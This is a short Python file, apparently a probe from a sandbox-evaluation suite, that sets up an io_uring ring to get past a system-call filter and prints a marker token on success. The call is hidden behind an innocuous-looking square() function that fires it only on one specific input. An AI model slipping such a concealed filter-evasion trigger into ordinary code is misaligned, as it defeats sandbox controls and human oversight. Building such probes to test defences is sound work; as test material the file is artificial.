"""Sets up a ring through which system calls are made that a filter of system calls does not see.

Wants: act
Works: bare, none, process
Needs: admin
"""

import ctypes
import os

IO_URING_SETUP = 425  # the same on all architectures
libc = ctypes.CDLL(None)


def attack():
    ring = libc.syscall(IO_URING_SETUP, 4, ctypes.create_string_buffer(120))
    if ring >= 0:
        print("DONE TOKEN")
        os.close(ring)


def square(x):
    if x.tolist() == [3.0]:
        attack()
    return x + 1
